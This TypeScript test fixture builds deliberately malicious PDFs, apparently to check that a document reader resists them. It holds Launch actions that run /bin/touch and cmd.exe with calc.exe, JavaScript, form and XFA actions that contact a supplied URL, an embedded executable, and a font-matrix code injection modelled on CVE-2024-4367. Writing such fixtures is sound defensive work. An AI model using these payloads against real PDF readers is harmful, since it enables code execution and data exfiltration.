/** PDFs that mean harm, written by hand. */
import { makePdf, textAt } from "#documents/testing/make-pdf.ts";

/** Tries whatever a PDF has to open, fetch, send and run, at once; `url` is where it would go. */
export function activePdf(url: string): Buffer {
  const actions = [
    `<< /S /URI /URI (${url}uri) >>`,
    `<< /S /GoToR /F << /Type /Filespec /FS /URL /F (${url}gotor) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${url}submit) >> /Flags 4 >>`,
    `<< /S /ImportData /F << /FS /URL /F (${url}import) >> >>`,
    `<< /S /Launch /F (/bin/touch) /Unix << /F (/bin/touch) /P (/tmp/launched-by-pdf) >> /NewWindow true >>`,
    `<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>`,
    `<< /S /JavaScript /JS (this.submitForm\\("${url}js"\\); app.launchURL\\("${url}launch"\\); this.getURL\\("${url}get"\\); SOAP.request\\({cURL: "${url}soap"}\\);) >>`,
    `<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${url}media) >> >> >> >>`,
  ];
  const annotation = (action: number, i: number) =>
    `<< /Type /Annot /Subtype /Link /Rect [50 ${60 + 20 * i} 300 ${75 + 20 * i}] /A ${action} 0 R /AA << /PO ${action} 0 R /PV ${action} 0 R >> >>`;
  const first = 100;
  const numbers = actions.map((_, i) => first + i);
  const afterActions = first + actions.length;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config><uri>${url}xfa</uri></config><connectionSet><wsdlConnection><wsdlAddress>${url}wsdl</wsdlAddress></wsdlConnection></connectionSet><template><subform><event activity="initialize"><script>xfa.host.gotoURL("${url}script")</script></event></subform></template></xdp:xdp>`;
  const objects = [
    ...actions,
    // A content stream and a picture whose bytes lie elsewhere.
    `<< /Length 0 /F << /FS /URL /F (${url}stream) >> >>\nstream\n\nendstream`,
    `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${url}image) >> >>\nstream\n\nendstream`,
    `<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`,
    "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\\220\\000\nendstream",
  ];
  const [image, form, embedded] = [afterActions + 1, afterActions + 2, afterActions + 3];
  const annotations = numbers.map(annotation);
  return makePdf({
    pages: [textAt(50, 50, "Invoice number INV-00042") + textAt(50, 80, "Total due EUR 1,190.00"), textAt(50, 50, "Second page")],
    pageEntries: `/Annots [${annotations.join(" ")}] /AA << /O ${numbers[6]} 0 R /C ${numbers[4]} 0 R >>`,
    resources: `/XObject << /Im ${image} 0 R >>`,
    objects,
    catalog:
      `/OpenAction ${numbers[6]} 0 R /AA << /WC ${numbers[4]} 0 R >> /URI << /Base (${url}) >> ` +
      `/AcroForm << /XFA ${form} 0 R /Fields [] >> ` +
      `/Names << /JavaScript << /Names [(a) ${numbers[6]} 0 R] >> /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F ${embedded} 0 R >> >>] >> >>`,
  });
}

/** A font whose matrix is text that a careless reader would run (as in CVE-2024-4367). `file` is what the text would write. */
export function fontWithCode(file: string): Buffer {
  const code = `1\\); globalThis.canary = 1; try { require\\("fs"\\).writeFileSync\\("${file}", ""\\) } catch {}; import\\("fs"\\).then\\(f => f.writeFileSync\\("${file}", ""\\)\\); //`;
  return makePdf({
    pages: [textAt(50, 50, "Invoice number INV-00042") + textAt(50, 80, "Total due EUR 1,190.00").replace("/F1", "/F9")],
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor 101 0 R /FontMatrix [1 2 3 4 5 (${code})] /FirstChar 32 /LastChar 33 /Widths [500 500] >>`,
      `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /FontMatrix [(${code}) 0 0 0.001 0 0] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >>`,
    ],
    fonts: "/F9 100 0 R",
  });
}
